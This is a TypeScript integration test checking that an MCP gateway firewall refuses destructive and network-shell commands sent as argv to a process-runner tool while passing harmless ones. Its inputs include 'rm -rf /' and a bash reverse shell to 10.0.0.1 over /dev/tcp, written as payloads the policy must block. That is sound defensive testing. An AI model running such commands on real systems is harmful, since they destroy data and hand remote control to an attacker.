// Argv-form tool arguments end to end: a real upstream MCP server whose `run_process` tool takes
// `{command, args}` (and would execve them), reached through a real agent and the gateway's MCP
// firewall. `rm` with `["-rf", "/"]` is refused as the argv it is, and never reaches the upstream;
// the same tool with harmless arguments passes unchanged.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { StreamableHTTPServerTransport } from '@modelcontextprotocol/sdk/server/streamableHttp.js';
import { z } from 'zod';
import type { Running } from '../../support/process.ts';
import { startTestAgent, startTestGateway, type TestGateway } from '../../support/gateway.ts';
import { listenLoopback, mcpConnect } from '../../support/mcp.ts';

let t: TestGateway;
let upstream: Server;
let agent: Running;
/** What the upstream was asked to run, one argv per call. */
const received: string[][] = [];

function processServer(): McpServer {
  const server = new McpServer({ name: 'process-runner', version: '1.0.0' });
  server.registerTool('run_process', {
    description: 'Starts a process (no shell) and returns its exit code.',
    inputSchema: { command: z.string().max(200), args: z.array(z.string().max(1000)).max(100) },
  }, async ({ command, args }) => {
    received.push([command, ...args]);
    return { content: [{ type: 'text', text: JSON.stringify({ exitCode: 0 }) }] };
  });
  return server;
}

before(async () => {
  upstream = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const body = chunks.length ? JSON.parse(Buffer.concat(chunks).toString()) : undefined;
      const server = processServer();
      const transport = new StreamableHTTPServerTransport({ sessionIdGenerator: undefined, enableJsonResponse: true });
      res.on('close', () => { void transport.close(); void server.close(); });
      void server.connect(transport).then(() => transport.handleRequest(req, res, body));
    });
  });
  const url = await listenLoopback(upstream);
  t = await startTestGateway();
  agent = await startTestAgent(t, 'edge', { allow: [url] });
  const r = await t.call('POST', '/api/v1/connections', await t.token('alice', ['admins']), { name: 'runner', kind: 'mcp', agent: 'edge', target: { url: `${url}/mcp` }, groups: ['developers'] });
  assert.equal(r.status, 201, JSON.stringify(r.body));
});
after(async () => {
  await agent?.stop('SIGTERM');
  await t?.close();
  await new Promise<void>((r) => upstream.close(() => r()));
});

test('run_process {command: "rm", args: ["-rf", "/"]} is judged as argv and refused; ls -la passes word for word', async () => {
  const { client } = await mcpConnect(`${t.gw.url}/mcp/runner`, await t.token('bob', ['developers']), { name: 'argv-test' });

  const ok = await client.callTool({ name: 'run_process', arguments: { command: 'ls', args: ['-la', '/var/log'] } });
  assert.equal(ok.isError, undefined, JSON.stringify(ok));
  assert.deepEqual(received, [['ls', '-la', '/var/log']]);

  const refused = await client.callTool({ name: 'run_process', arguments: { command: 'rm', args: ['-rf', '/'] } });
  assert.equal(refused.isError, true);
  assert.equal((refused.content as Array<{ text: string }>)[0]!.text, 'airlock: The call was refused by policy (shell.destructive): The command would destroy or expose system data and is refused.');

  const reverse = await client.callTool({ name: 'run_process', arguments: { command: 'bash', args: ['-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'] } });
  assert.equal(reverse.isError, true);
  assert.equal((reverse.content as Array<{ text: string }>)[0]!.text, 'airlock: The call was refused by policy (shell.reverse_shell): The command connects a shell to the network (a reverse or bind shell) and is refused.');

  // One word is one path: "-rf" and "build dir" are never re-split into more operands.
  const spaced = await client.callTool({ name: 'run_process', arguments: { command: 'rm', args: ['-rf', 'build dir'] } });
  assert.equal(spaced.isError, undefined, JSON.stringify(spaced));
  assert.deepEqual(received, [['ls', '-la', '/var/log'], ['rm', '-rf', 'build dir']], 'the refused calls never reached the upstream');
  await client.close();
});
